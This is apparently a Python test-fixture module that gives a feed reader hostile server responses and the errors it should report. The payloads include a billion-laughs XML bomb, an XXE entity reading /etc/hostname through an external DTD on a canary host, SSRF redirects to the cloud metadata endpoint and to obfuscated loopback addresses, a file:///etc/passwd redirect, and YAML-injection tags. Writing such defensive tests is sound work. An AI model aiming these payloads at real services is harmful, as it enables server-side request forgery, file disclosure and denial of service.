"""Listings of the hostile world: what can come instead of one, and what listings themselves can try."""

import json
from collections.abc import Iterator
from itertools import count

import web_server
from hostile_making import NASTY, Outlet, article, text
from web_server import Page, answer, redirect

_ENTITY = "<rss><channel><item><title>&b;</title></item></channel></rss>"
LAUGHS = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>' + _ENTITY
READS = '<!DOCTYPE rss [<!ENTITY b SYSTEM "file:///etc/hostname"><!ENTITY % p SYSTEM "http://{}/x.dtd"> %p;]>' + _ENTITY


def instead(canary: str) -> Iterator[Outlet]:
    """Yield an outlet for each thing that can come instead of a listing."""
    inside = "no public address|no web address|port|refused"
    for name, (page, says) in {
        "hangs": (web_server.hang, ("longer than a request may take",)),
        "drips": (web_server.slow_headers, ("longer than a request may take|headers without measure",)),
        "drops": (web_server.slow_body, ("longer than a request may take",)),
        "bombs": (web_server.bomb(), ("larger than",)),
        "bombs-twice": (web_server.double_bomb(), ("larger than",)),
        "bombs-behind": (web_server.bomb(status=302, Location="/absent"), ("no such page",)),
        "floods": (web_server.endless, ("larger than",)),
        "codings": (web_server.many_codings, ("not asked for",)),
        "cut": (web_server.truncated, ("broke off",)),
        "chunk": (web_server.cut_chunk, ("broke off",)),
        "resets": (web_server.reset, ("closed the connection|broke off",)),
        "ssh": (web_server.not_http, ("is not HTTP",)),
        "nothing": (web_server.empty, ("empty",)),
        "gone": (answer(410, b"<html>gone"), ("gone|410|no longer",)),
        "lost": (answer(404, b"<html>lost"), ("no such page",)),
        "fails": (answer(503, b"x", Retry_After="never \x1b[2J"), ("503|server",)),
        "waits": (answer(429, b"x", Retry_After="99999999999999999999"), ("429|wait|left alone|too many",)),
        "page": (article("لست خلاصة"), ("is a web page",)),
        "laughs": (xml(LAUGHS), ("entit|DTD|document type",)),
        "reads": (xml(READS.format(canary)), ("entit|DTD|document type",)),
        "deep-xml": (xml("<rss>" + "<a>" * 400_000), (".",)),
        "deep-json": (answer(body=b"[" * 4_000_000, Content_Type="application/json"), (".",)),
        "digits": (
            answer(body=b'{"version":"https://jsonfeed.org/version/1.1","items":[{"id":' + b"9" * 20_000 + b"}]}"),
            (".",),
        ),
        "leads-in": (redirect(f"http://{canary}/"), (inside,)),
        "leads-in-by-name": (redirect("http://inside.example.net/"), (inside,)),
        "leads-in-mixed": (redirect("http://mixed.example.net/"), (inside,)),
        "leads-in-later": (redirect("http://rebinds.example.net/"), ("does not take connections|no public",)),
        "leads-to-metadata": (redirect("http://169.254.169.254/latest/meta-data/"), (inside,)),
        "leads-short": (redirect("http://127.2/"), (inside,)),
        "leads-octal": (redirect("http://0177.0.0.2/"), (inside,)),
        "leads-decimal": (redirect("http://2130706434/"), (inside,)),
        "leads-mapped": (redirect("http://[::ffff:127.0.0.2]/"), (inside,)),
        "leads-nat64": (redirect("http://[64:ff9b::7f00:2]/"), (inside,)),
        "leads-to-file": (redirect("file:///etc/passwd"), (inside + "|scheme|redirect",)),
        "leads-round": (redirect("/feed"), ("redirect",)),
        "leads-with-secret": (redirect("https://user:password@leads-with-secret.example.org/absent"), (".",)),
    }.items():
        yield Outlet(id=name, pages={"/feed": page}, says=says)


def xml(text: str) -> Page:
    return answer(body=text.encode(), Content_Type="application/xml")


def leading_to(url: str) -> Page:
    """Return a sitemap index that leads to one address, fifty times."""
    maps = f"<sitemap><loc>{url}</loc></sitemap>" * 50
    return xml(f'<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{maps}</sitemapindex>')


def page_before(url: str) -> Page:
    """Return a list of one article, which is not there, whose next page is at `url`."""
    body = f"<html><body><h2><a href='/n'>خبر لا وجود له هنا</a></h2><a rel=next href='{url}'>التالي</a></body></html>"
    return answer(body=body.encode(), Content_Type="text/html")


def endless() -> dict[str, Page]:
    """A list whose next page is always another one, with articles that are not there."""
    numbers = count(1)

    def page(line: web_server.Line) -> bool:
        n = next(numbers)
        body = f"<html><body><h2><a href='/e{n}'>خبر لا وجود له رقم {n}</a></h2><a rel=next href='/feed?page={n}'>التالي</a></body></html>"
        return answer(body=body.encode(), Content_Type="text/html")(line) is True

    return {"/feed": page, **{f"/feed?page={n}": page for n in range(1, 3000)}}


def json_feed() -> str:
    items = [
        {
            "id": 1,
            "url": "https://json.example.org/1",
            "title": "yes",
            "content_html": "<p>نص</p>" + text("json 1"),
            "tags": [NASTY, "- x", "!!python/object:os.system", "12:30:45"],
        },
        {
            "id": True,
            "url": "https://json.example.org/2",
            "title": "&anchor *alias",
            "content_html": "<p>نص</p>" + text("json 2"),
            "authors": [{"name": "---\nstatus: hidden"}],
        },
        {
            "id": "3",
            "url": "https://json.example.org/3",
            "title": "2025-12-23",
            "content_html": "<p>---</p><p>نص</p>" + text("json 3"),
            "summary": "null\u0085~\u000b" + NASTY,
        },
    ]
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "مثال", "items": items})
